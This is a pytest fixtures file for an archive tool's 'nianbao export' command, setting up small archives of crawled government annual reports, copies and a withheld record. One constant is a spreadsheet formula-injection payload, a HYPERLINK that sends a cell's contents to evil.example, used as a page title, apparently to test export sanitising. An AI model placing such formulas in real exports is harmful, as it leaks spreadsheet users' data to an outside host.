"""A small archive to export, and the command as a person gives it."""

import shutil
from dataclasses import dataclass

import pytest
from click.testing import CliRunner

from archive.cli.exporting import export
from archive.database import captures
from archive.database.connection import open_existing
from archive.keeper import Keeper, write_now
from archive.rechecking import recheck_now
from crawler.replicas.figures import reports
from tests.archive.export.every_kind import every_kind
from tests.archive.seeing import AGENCY, REPORT, Reader, changed, page

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"报告")'
KEY = f"{AGENCY}@a:2022"
ODD = changed(
    REPORT,
    **{
        "applications__new[natural_person]": "",
        "applications__carried_in[natural_person]": "/",
        "disclosure__fees__amount": "253.77695万元",
    },
)


@dataclass(frozen=True)
class Exported:
    """What `nianbao export` ended with and said."""

    code: int
    out: str
    err: str


@pytest.fixture(scope="session")
def kept(tmp_path_factory):
    """An archive of three reports of two bodies, one with cells that hold no number; it is only looked at."""
    directory = tmp_path_factory.mktemp("kept") / "archive"
    with Keeper(directory) as keeper:
        keeper.write(lambda c: captures.begin_crawl(c, "crawl-1", "", "test", {}))
        reader = Reader(keeper)
        reader.see(page(ODD), title=FORMULA)
        (next_year, other) = reports(AGENCY, [2023])[0], reports("甲县教育局", [2023])[0]
        reader.see(page(next_year), "http://a.gov.cn/2.html", title=next_year.title)
        reader.see(page(other), "http://b.gov.cn/1.html", title=other.title, scope="b")
        keeper.write(lambda c: captures.end_crawl(c, "crawl-1", "finished"))
    recheck_now(directory, open_existing(directory).conn)
    return directory


@pytest.fixture
def mine(kept, tmp_path):
    """A copy of that archive, to do something to."""
    return shutil.copytree(kept, tmp_path / "mine")


@pytest.fixture
def run(kept):
    """`nianbao export …` over the small archive, or another."""

    def ran(*arguments, archive=kept, binary=False):
        words = [str(word) for word in (*arguments, "--archive", archive)]
        result = CliRunner().invoke(export, words)
        if result.exception and not isinstance(result.exception, SystemExit):
            raise result.exception
        return Exported(result.exit_code, result.stdout_bytes if binary else result.stdout, result.stderr)

    return ran


@pytest.fixture
def withheld(mine):
    """The copy with the document of 2022 withheld, but nothing else done about it."""
    with_tombstone = (
        "INSERT INTO withheld SELECT digest, 'names an applicant', 'the court', '2026-03-01T00:00:00.000Z'"
        " FROM reports WHERE id = ?"
    )
    write_now(mine, lambda c: c.execute(with_tombstone, (KEY,)))
    return mine


@pytest.fixture
def every(archive):
    """An archive of every kind of capture."""
    made = every_kind(archive)
    yield made
    made.keeper.close()


@pytest.fixture
def view(archive, every):
    """A look at that archive."""
    return open_existing(archive).conn
